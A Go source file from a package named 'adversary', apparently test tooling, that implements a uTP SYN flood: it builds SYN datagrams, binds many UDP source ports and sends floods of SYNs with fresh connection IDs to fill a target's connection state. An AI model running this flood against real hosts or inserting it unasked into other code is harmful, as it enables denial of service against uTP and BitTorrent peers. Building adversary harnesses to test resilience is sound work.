package adversary

import (
	"encoding/binary"
	"net"
	"net/netip"
)

// A uTP SYN flood (BEP 29): a SYN costs its sender one 20-byte datagram
// from any address and port, spoofed or not, and asks the target for a
// connection: state, an answer, a place in its accept backlog. Sent from
// many source ports, and several connection IDs from each, every SYN is a
// new connection to the target.

// UTPSYN is a uTP SYN with connection ID id and sequence number seq.
func UTPSYN(id, seq uint16) []byte {
	b := make([]byte, 20)
	b[0] = 4<<4 | 1 // type ST_SYN, version 1
	binary.BigEndian.PutUint16(b[2:], id)
	binary.BigEndian.PutUint32(b[4:], 1)      // timestamp (µs)
	binary.BigEndian.PutUint32(b[12:], 1<<20) // window
	binary.BigEndian.PutUint16(b[16:], seq)   // seq_nr
	return b
}

// UTPSYNFlood sends n SYNs to to, the sources taking turns, the i-th
// with connection ID first+i: a caller that numbers its rounds on makes
// every SYN a new connection. It returns how many it sent.
func UTPSYNFlood(sources []*net.UDPConn, to netip.AddrPort, first, n int) (int, error) {
	dst := net.UDPAddrFromAddrPort(to)
	for i := range n {
		if _, err := sources[i%len(sources)].WriteToUDP(UTPSYN(uint16(first+i), uint16(i)), dst); err != nil {
			return i, err
		}
	}
	return n, nil
}

// PortSources binds count UDP sockets on ip, each on a port of its own:
// many sources behind one address, as a host (or a spoofer) has.
func PortSources(ip netip.Addr, count int) ([]*net.UDPConn, error) {
	conns := make([]*net.UDPConn, 0, count)
	for range count {
		c, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(ip, 0)))
		if err != nil {
			for _, c := range conns {
				c.Close()
			}
			return nil, err
		}
		conns = append(conns, c)
	}
	return conns, nil
}
